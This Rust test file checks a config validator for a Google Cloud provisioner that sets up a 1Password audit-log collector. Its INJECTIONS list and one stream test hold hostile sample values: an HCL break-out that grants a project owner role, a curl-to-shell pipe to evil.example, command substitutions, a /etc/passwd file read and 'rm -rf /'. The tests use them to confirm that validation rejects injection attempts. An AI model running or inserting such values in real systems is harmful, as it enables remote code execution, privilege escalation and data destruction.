//! Invalid configs: every problem reported at once, with key, value and rule; injection attempts in
//! every string field are refused by validation.

use provisioner::config;

fn error(text: &str) -> String {
    config::parse("test.yaml", text).unwrap_err().to_string()
}

#[test]
fn every_problem_is_reported_at_once() {
    let text = r#"
project_id: Acme
region: moon-central1
bucket:
  name: Google-Bucket
  storage_class: HOT
  retention_days: 0
feed_prefix: onepassword-audit
checkpoint_prefix: onepassword-audit/state
streams: [auditevents, logins, auditevents]
events_api: http://events.example.com
service_accounts:
  collector: sa
  invoker: sa
topic: goog-topic
schedule:
  cron: "every hour"
  time_zone: "mars"
collector:
  page_size: 5000
  lookback_hours: 0
secret: "token secret"
colour: blue
"#;
    insta::assert_snapshot!(error(text));
}

#[test]
fn the_collectors_size_is_checked_against_cloud_run() {
    let config = |sizing: &str| {
        format!("project_id: acme-secops-prod\nregion: us-central1\ncollector:\n{sizing}")
    };
    for ok in [
        "  cpu: 1\n  memory: 512Mi\n",
        "  cpu: \"2\"\n  memory: 8Gi\n",
        "  cpu: 4\n  memory: 2Gi\n",
        "  cpu: 8\n  memory: 32Gi\n",
    ] {
        let text = config(ok);
        let parsed = config::parse("test.yaml", &text);
        assert!(parsed.is_ok(), "{ok}: {:?}", parsed.err());
    }
    let fractional = error(&config("  cpu: 0.5\n  memory: 512Mi\n"));
    assert_eq!(
        fractional,
        "test.yaml has 1 problem(s):\n  - collector.cpu: \"0.5\" is less than 1 vCPU, which Cloud Run allows only with a concurrency of 1; the collector is deployed with a concurrency of 2 (a tick during a run must reach it): use 1, 2, 4, 6 or 8"
    );
    let both = error(&config("  cpu: 3\n  memory: 1.5Gi\n"));
    assert_eq!(
        both,
        "test.yaml has 2 problem(s):\n  - collector.cpu: \"3\" is not a vCPU count Cloud Run accepts: use 1, 2, 4, 6 or 8\n  - collector.memory: \"1.5Gi\" is not a memory size: a whole number of MiB or GiB, e.g. 512Mi, 1Gi"
    );
    let too_much = error(&config("  cpu: 1\n  memory: 16Gi\n"));
    assert!(
        too_much.contains("collector.memory: \"16Gi\" does not fit collector.cpu 1: Cloud Run takes at most 4Gi with 1 vCPU"),
        "{too_much}"
    );
    let too_little = error(&config("  cpu: 6\n  memory: 2Gi\n"));
    assert!(
        too_little
            .contains("does not fit collector.cpu 6: Cloud Run takes from 4Gi to 24Gi with 6 vCPU"),
        "{too_little}"
    );
    let below = error(&config("  memory: 256Mi\n"));
    assert!(below.contains("is less than 512Mi"), "{below}");
}

#[test]
fn malformed_yaml_names_the_location() {
    let message = error("project_id: [unclosed\n");
    assert!(
        message.contains("test.yaml is not a valid config"),
        "{message}"
    );
    assert!(message.contains("line"), "{message}");
    let message =
        error("project_id: acme-secops-prod\nregion: us-central1\ncollector:\n  page_size: many\n");
    assert!(
        message.contains("page_size") || message.contains("invalid type"),
        "{message}"
    );
}

/// Values an attacker (or a typo) could use to break out of an HCL string or a shell word.
const INJECTIONS: &[&str] = &[
    "x\" }\nresource \"google_project_iam_member\" \"owner\" {",
    "${file(\"/etc/passwd\")}",
    "%{ if true }x%{ endif }",
    "a'; curl evil.example | sh; echo '",
    "$(id)",
    "`id`",
    "a\nb",
    "a b",
];

const STRING_FIELDS: &[&str] = &[
    "project_id",
    "region",
    "bucket.name",
    "bucket.location",
    "bucket.storage_class",
    "feed_prefix",
    "signinattempts_prefix",
    "itemusages_prefix",
    "checkpoint_prefix",
    "service_accounts.collector",
    "service_accounts.invoker",
    "topic",
    "schedule.job_name",
    "schedule.cron",
    "schedule.time_zone",
    "events_api",
    "collector.service_name",
    "collector.repository",
    "collector.image",
    "collector.version",
    "collector.release_image",
    "collector.cpu",
    "collector.memory",
    "secret",
    "terraform.state_bucket",
    "terraform.state_prefix",
    "secops.service_account",
    "secops.source_deletion",
    "secops.instance.project",
    "secops.instance.location",
    "secops.instance.customer_id",
    "secops.feed",
    "github.repository",
    "github.environment",
];

fn with_field(key: &str, value: &str) -> String {
    let mut root: yaml_serde::Value =
        yaml_serde::from_str("project_id: acme-secops-prod\nregion: us-central1\n").unwrap();
    let mut parts = key.split('.').peekable();
    let mut node = &mut root;
    while let Some(part) = parts.next() {
        let map = node.as_mapping_mut().unwrap();
        if parts.peek().is_none() {
            map.insert(part.into(), value.into());
            break;
        }
        if !map.contains_key(part) {
            let mut child = yaml_serde::Mapping::new();
            if part == "instance" {
                // A valid instance, so only the field under test is wrong.
                child.insert("project".into(), "acme-secops-siem".into());
                child.insert("location".into(), "us".into());
                child.insert(
                    "customer_id".into(),
                    "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d".into(),
                );
            }
            map.insert(part.into(), yaml_serde::Value::Mapping(child));
        }
        node = map.get_mut(part).unwrap();
    }
    yaml_serde::to_string(&root).unwrap()
}

#[test]
fn injection_attempts_in_every_string_field_are_refused() {
    for field in STRING_FIELDS {
        for attempt in INJECTIONS {
            let text = with_field(field, attempt);
            let result = config::parse("test.yaml", &text);
            let Err(config::ConfigError::Invalid { problems, .. }) = result else {
                panic!("{field} = {attempt:?} was accepted: {result:?}");
            };
            assert!(
                problems.iter().any(|p| p.key == *field),
                "{field} = {attempt:?}: {problems:?}"
            );
        }
    }
    insta::assert_snapshot!(error(&with_field("bucket.name", INJECTIONS[0])));
}

#[test]
fn streams_entries_are_checked_too() {
    let text = "project_id: acme-secops-prod\nregion: us-central1\nstreams: [\"auditevents'; rm -rf /\"]\n";
    assert!(error(text).contains("is not a stream"));
}

/// String entries of list fields.
const LIST_FIELDS: &[&str] = &["streams", "alerting.emails", "alerting.channels"];

#[test]
fn injection_attempts_in_list_entries_are_refused() {
    for field in LIST_FIELDS {
        let (section, key) = field.split_once('.').unwrap_or(("", field));
        for attempt in INJECTIONS {
            let list = format!("[{}]", serde_json::to_string(attempt).unwrap());
            let text = if section.is_empty() {
                format!("project_id: acme-secops-prod\nregion: us-central1\n{key}: {list}\n")
            } else {
                format!(
                    "project_id: acme-secops-prod\nregion: us-central1\n{section}:\n  {key}: {list}\n"
                )
            };
            let result = config::parse("test.yaml", &text);
            let Err(config::ConfigError::Invalid { problems, .. }) = result else {
                panic!("{field} = [{attempt:?}] was accepted: {result:?}");
            };
            assert!(
                problems
                    .iter()
                    .any(|p| p.key == *field && p.value == *attempt),
                "{field} = [{attempt:?}]: {problems:?}"
            );
        }
    }
}

/// Every string the full example sets (so every string the config has) is covered by the
/// injection tests above: a new field cannot skip them.
#[test]
fn the_injection_tests_cover_every_string_field() {
    fn leaves(prefix: &str, value: &serde_json::Value, out: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => {
                for (key, child) in map {
                    let path = if prefix.is_empty() {
                        key.clone()
                    } else {
                        format!("{prefix}.{key}")
                    };
                    leaves(&path, child, out);
                }
            }
            serde_json::Value::String(_) => out.push(prefix.to_owned()),
            serde_json::Value::Array(items) if items.iter().any(|i| i.is_string()) => {
                out.push(format!("{prefix}[]"))
            }
            _ => {}
        }
    }
    let full = config::load(std::path::Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/full.yaml"
    )))
    .unwrap();
    let mut fields = Vec::new();
    leaves("", &serde_json::to_value(&full).unwrap(), &mut fields);
    assert!(fields.len() > 30, "{fields:?}");
    for field in fields {
        let covered = match field.strip_suffix("[]") {
            Some(list) => LIST_FIELDS.contains(&list),
            None => STRING_FIELDS.contains(&field.as_str()),
        };
        assert!(covered, "{field} has no injection test");
    }
}

#[test]
fn derived_names_must_fit_their_limits() {
    let base = "project_id: acme-secops-prod\nregion: us-central1\n";
    let long_bucket = "b".repeat(57);
    let with_github =
        format!("{base}bucket:\n  name: {long_bucket}\ngithub:\n  repository: acme/secops\n");
    assert!(
        error(&with_github).contains("BUCKET-builds"),
        "{}",
        error(&with_github)
    );
    let without_github = format!("{base}bucket:\n  name: {long_bucket}\n");
    assert!(config::parse("test.yaml", &without_github).is_ok());
    let fits = format!("{base}topic: t{}\n", "x".repeat(242));
    assert!(config::parse("test.yaml", &fits).is_ok());
    let too_long = format!("{base}topic: t{}\n", "x".repeat(243));
    assert!(error(&too_long).contains("-dead-letter"));
}

/// A misspelled member of each closed set (storage class, source deletion option, stream) does not
/// stop the parse: each is reported with the spellings it could have been, next to the config's
/// unrelated problems, in the file's order.
#[test]
fn misspelled_choices_are_reported_with_the_others_naming_the_allowed_spellings() {
    let text = r#"
project_id: Acme
region: us-central1
bucket:
  storage_class: standard
streams: [auditevents, SignInAttempts]
collector:
  page_size: 0
secops:
  source_deletion: always
"#;
    let Err(config::ConfigError::Invalid { problems, .. }) = config::parse("test.yaml", text)
    else {
        panic!("accepted: {text}");
    };
    let found: Vec<(&str, &str, &str)> = problems
        .iter()
        .map(|p| (p.key.as_str(), p.value.as_str(), p.rule.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (
                "project_id",
                "Acme",
                "is not a project id: 6-30 lowercase letters, digits or hyphens, starting with a letter, not ending with a hyphen"
            ),
            (
                "bucket.storage_class",
                "standard",
                "must be STANDARD, NEARLINE, COLDLINE or ARCHIVE"
            ),
            (
                "streams",
                "SignInAttempts",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            (
                "collector.page_size",
                "0",
                "must be between 1 and 1000 (the Events API's limit)"
            ),
            (
                "secops.source_deletion",
                "always",
                "must be never (the bucket's lifecycle rule deletes objects) or on_success (SecOps deletes what it ingested)"
            ),
        ]
    );
}

/// Validation never reads a misspelled stream as a stream (reading one panics): it has no feed
/// prefix to overlap another's, and its repetition is reported like any other.
#[test]
fn a_misspelled_stream_is_reported_never_read() {
    let text = "project_id: acme-secops-prod\nregion: us-central1\nstreams: [auditevents, logins, logins]\n";
    let Err(config::ConfigError::Invalid { problems, .. }) = config::parse("test.yaml", text)
    else {
        panic!("accepted: {text}");
    };
    let found: Vec<(&str, &str)> = problems
        .iter()
        .map(|p| (p.key.as_str(), p.rule.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (
                "streams",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            (
                "streams",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            ("streams", "is listed twice"),
        ]
    );
}

/// `secops.feed` is one of two kinds: a misspelling names both with what each means, next to the
/// file's other problems; `event_driven` needs a trigger topic short enough for each feed's
/// subscription (TOPIC-secops-ACCOUNT-STREAM in 255).
#[test]
fn a_misspelled_feed_kind_names_both_and_event_driven_names_its_limit() {
    let base = "project_id: acme-secops-prod\nregion: us-central1\n";
    for spelled in ["event-driven", "EventDriven", "gcs_v2", ""] {
        let text = format!("{base}secops:\n  feed: \"{spelled}\"\n");
        let message = error(&text);
        assert!(
            message.contains(&format!(
                "secops.feed: {spelled:?} must be storage_v2 (SecOps lists each stream's folder on its own schedule) or event_driven (the bucket notifies a Pub/Sub subscription per feed of each new object)"
            )) || (spelled.is_empty() && message.contains("secops.feed: must be storage_v2")),
            "{message}"
        );
    }
    for kind in ["storage_v2", "event_driven"] {
        let config = config::parse("t", &format!("{base}secops:\n  feed: {kind}\n")).unwrap();
        assert_eq!(config.secops.feed.get().to_string(), kind);
    }
    let long = format!(
        "{base}topic: t{}\nsecops:\n  feed: event_driven\n",
        "x".repeat(208)
    );
    let message = error(&long);
    assert!(
        message.contains("topic: ")
            && message.contains("TOPIC-secops-ACCOUNT-STREAM")
            && message.contains("shorten topic"),
        "{message}"
    );
    let fits = format!(
        "{base}topic: t{}\nsecops:\n  feed: event_driven\n",
        "x".repeat(207)
    );
    assert!(config::parse("t", &fits).is_ok());
    let v2 = format!("{base}topic: t{}\n", "x".repeat(208));
    assert!(
        config::parse("t", &v2).is_ok(),
        "only event_driven names subscriptions"
    );
}

/// A schedule Cloud Scheduler would refuse, or one faster than a minute, is refused naming
/// `schedule.cron`, the value, why and the fix; every minute is a schedule.
#[test]
fn a_schedule_faster_than_a_minute_or_one_cloud_scheduler_refuses_names_schedule_cron() {
    let base = "project_id: acme-secops-prod\nregion: us-central1\n";
    for (cron, says) in [
        (
            "*/10 * * * * *",
            "a seconds field (a schedule faster than once a minute)",
        ),
        (
            "@hourly",
            "the macro @hourly, which Cloud Scheduler does not take: write it as five fields",
        ),
        ("@every 30s", "at most once a minute"),
        ("0 25 * * *", "hour field \"25\", which is not 0-23"),
        ("every 1 minutes", "English-like (App Engine cron) format"),
    ] {
        let message = error(&format!("{base}schedule:\n  cron: \"{cron}\"\n"));
        assert!(
            message.contains(&format!("schedule.cron: {cron:?} ")) && message.contains(says),
            "{cron}: {message}"
        );
    }
    let every_minute = config::parse(
        "t",
        &format!("{base}schedule:\n  cron: \"* * * * *\"\nalerting:\n  enabled: true\n  emails: [a@b.example]\n"),
    )
    .unwrap();
    assert_eq!(
        config::silence_seconds(&every_minute.schedule.cron),
        Some(960)
    );
}

#[test]
fn accounts_in_parallel_goes_up_to_64() {
    let example = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/accounts.yaml"),
    )
    .unwrap();
    let with = |n: &str| {
        assert!(example.contains("  accounts_in_parallel: 2\n"));
        example.replacen(
            "  accounts_in_parallel: 2\n",
            &format!("  accounts_in_parallel: {n}\n"),
            1,
        )
    };
    // More than 16 accounts at once need 1Gi (a catch-up of 64 at once peaked at 739 MiB).
    let message = error(&with("17"));
    assert!(
        message.contains("collector.memory: \"512Mi\" is less than 1Gi")
            && message.contains("collector.accounts_in_parallel 17 needs")
            && message.contains("set collector.memory: 1Gi"),
        "{message}"
    );
    config::parse("16.yaml", &with("16")).unwrap();
    let with_memory = |n: &str| with(n).replacen("collector:\n", "collector:\n  memory: 1Gi\n", 1);
    let config = config::parse("64.yaml", &with_memory("64")).unwrap();
    assert_eq!(config.collector.accounts_in_parallel, 64);
    let message = error(&with("65"));
    assert!(
        message.contains("collector.accounts_in_parallel")
            && message.contains("65")
            && message.contains("between 1 and 64"),
        "{message}"
    );
}

#[test]
fn collector_services_split_the_accounts_and_refuse_a_split_that_cannot_work() {
    // The fleet example: five accounts, two services, round robin in the list's order.
    let fleet = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/fleet.yaml"),
    )
    .unwrap();
    let config = config::parse("fleet.yaml", &fleet).unwrap();
    let shares: Vec<(String, u32)> = config
        .accounts()
        .into_iter()
        .map(|a| (a.name.unwrap().as_str().to_owned(), a.service))
        .collect();
    assert_eq!(
        shares,
        [
            ("acme".to_owned(), 1),
            ("globex".to_owned(), 2),
            ("initech".to_owned(), 1),
            ("umbrella".to_owned(), 2),
            ("hooli".to_owned(), 1),
        ]
    );
    assert_eq!(
        config.service_names(),
        ["op-fleet-collector", "op-fleet-collector-2"]
    );
    assert_eq!(
        config.push_subscriptions(),
        [
            "onepassword-audit-trigger-push",
            "onepassword-audit-trigger-push-2"
        ]
    );
    assert_eq!(
        config.service_of_account(Some("umbrella")),
        "op-fleet-collector-2"
    );

    let with_services = |text: &str, n: &str| {
        assert!(text.contains("  services: 2\n"));
        text.replacen("  services: 2\n", &format!("  services: {n}\n"), 1)
    };
    // More services than accounts: one would collect nothing.
    let message = error(&with_services(&fleet, "6"));
    assert!(
        message.contains("collector.services")
            && message.contains("more than the 5 accounts listed")
            && message.contains("set at most 5"),
        "{message}"
    );
    // Out of range.
    for n in ["0", "11"] {
        let message = error(&with_services(&fleet, n));
        assert!(
            message.contains("collector.services") && message.contains("between 1 and 10"),
            "{message}"
        );
    }
    // Several services and no accounts: list.
    let single = fleet.split("accounts:\n").next().unwrap().to_owned();
    let message = error(&single);
    assert!(
        message.contains("collector.services")
            && message.contains("has no accounts: list")
            && message.contains("set collector.services to 1"),
        "{message}"
    );
    // A name that would be too long for the last service's `-N`.
    let long = "c".repeat(48);
    let message = error(&fleet.replacen(
        "service_name: op-fleet-collector",
        &format!("service_name: {long}"),
        1,
    ));
    assert!(
        message.contains("collector.service_name")
            && message.contains(&format!("{long}-2"))
            && message.contains("at most 49 characters"),
        "{message}"
    );

    // 101 accounts need a second service; 1,000 fit ten; 1,001 do not fit one deployment.
    let fleet_of = |accounts: usize, services: u32| {
        let mut text = with_services(&single, &services.to_string());
        text.push_str("accounts:\n");
        for i in 0..accounts {
            text.push_str(&format!("  - name: customer-{i:04}\n"));
        }
        text
    };
    let message = error(&fleet_of(101, 1));
    assert!(
        message.contains("accounts: \"101\"")
            && message.contains("one service collects at most 100")
            && message.contains("set collector.services to at least 2"),
        "{message}"
    );
    let config = config::parse("1000.yaml", &fleet_of(1000, 10)).unwrap();
    assert_eq!(config.services(), 10);
    let per_service = config
        .accounts()
        .into_iter()
        .fold([0usize; 10], |mut n, a| {
            n[a.service as usize - 1] += 1;
            n
        });
    assert_eq!(per_service, [100; 10]);
    let message = error(&fleet_of(1001, 10));
    assert!(
        message.contains("split the accounts into deployments of at most 1000"),
        "{message}"
    );
}
